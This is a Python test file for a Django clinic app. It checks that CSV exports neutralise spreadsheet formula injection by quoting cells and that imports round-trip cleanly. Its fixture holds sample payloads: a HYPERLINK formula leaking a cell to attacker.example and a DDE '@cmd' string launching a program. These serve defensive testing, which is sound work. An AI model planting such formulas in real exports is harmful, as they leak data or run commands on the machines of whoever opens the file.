"""CSV exports never hand a spreadsheet a formula (OWASP CSV injection): cells starting with = + - @ tab
or carriage return get a single quote before them, in every CSV Needlecare writes, and the importer reads
its own exports back unchanged."""

import csv
import io
import re
import zipfile
from pathlib import Path

import pytest
from django.utils import timezone

from needlecare.interop.export import clinic_zip, patients_csv
from needlecare.interop.importer import read_csv
from needlecare.interop.spreadsheet import FORMULA_STARTS, safe_cell, unquoted
from needlecare.testing.factories import make_patient

pytestmark = pytest.mark.django_db

HOSTILE = {
    "given_name": '=HYPERLINK("http://attacker.example/?leak="&A1,"Click")',
    "family_name": "+SUM(1+1)",
    "preferred_name": "-2+3",
    "address": "@cmd|' /C calc'!A0",
    "notes": "\tTabbed=1+1",
    "reference": "'=already quoted",
}


def _rows(text: str) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(text)))


def test_the_patients_csv_quotes_every_formula_like_cell(world_a):
    make_patient(world_a.clinic, by=world_a.owner, phone="+44 20 7946 0000", **HOSTILE)
    make_patient(world_a.clinic, by=world_a.owner, given_name="\rCarriage", family_name="Return")
    rows = _rows(patients_csv(world_a.clinic))
    cells = [value for row in rows for value in row.values()]
    assert not [c for c in cells if c.startswith(FORMULA_STARTS)], cells
    hostile = next(r for r in rows if r["family_name"].startswith("'+"))
    for field, value in HOSTILE.items():
        assert hostile[field] == "'" + value, field
    assert hostile["phone"] == "'+44 20 7946 0000"  # OWASP: every cell, phone numbers included
    assert next(r for r in rows if r["family_name"] == "Return")["given_name"] == "'\rCarriage"


def test_the_clinic_export_csv_is_the_quoted_one(world_a):
    make_patient(world_a.clinic, by=world_a.owner, **HOSTILE)
    archive = clinic_zip(world_a.clinic, by=world_a.owner, generated_at=timezone.now())
    with zipfile.ZipFile(archive) as opened:
        text = opened.read("patients.csv").decode()
    assert "'=HYPERLINK(" in text
    assert not [c for r in _rows(text) for c in r.values() if c.startswith(FORMULA_STARTS)]


def test_the_importer_reads_an_export_back_as_it_was(world_a):
    make_patient(world_a.clinic, by=world_a.owner, phone="+44 20 7946 0000", **HOSTILE)
    table = read_csv(patients_csv(world_a.clinic))
    _, row = next((line, r) for line, r in table.rows if r["family_name"] == HOSTILE["family_name"])
    for field in ("given_name", "family_name", "preferred_name", "address", "reference"):
        assert row[field] == HOSTILE[field], field
    assert row["phone"] == "+44 20 7946 0000"


@pytest.mark.parametrize(
    ("value", "written"),
    [("=1+1", "'=1+1"), ("-3", "'-3"), ("+1", "'+1"), ("@x", "'@x"), ("\tx", "'\tx"), ("\rx", "'\rx"),
     ("'x", "''x"), ("plain", "plain"), ("", ""), (None, ""), (-3, "'-3"), (4, "4"), ("a=b", "a=b")],
)  # fmt: skip
def test_safe_cell_and_back(value, written):
    assert safe_cell(value) == written
    if isinstance(value, str):
        assert unquoted(written) == value


def test_every_csv_writer_goes_through_the_helper():
    root = Path(__file__).resolve().parents[2]
    writers = [
        str(p.relative_to(root))
        for p in root.rglob("*.py")
        if "tests" not in p.parts
        and p.name != "spreadsheet.py"
        and re.search(r"csv\.(writer|DictWriter)\(", p.read_text())
    ]
    assert writers == [], f"write CSV with needlecare.interop.spreadsheet (SafeDictWriter): {writers}"
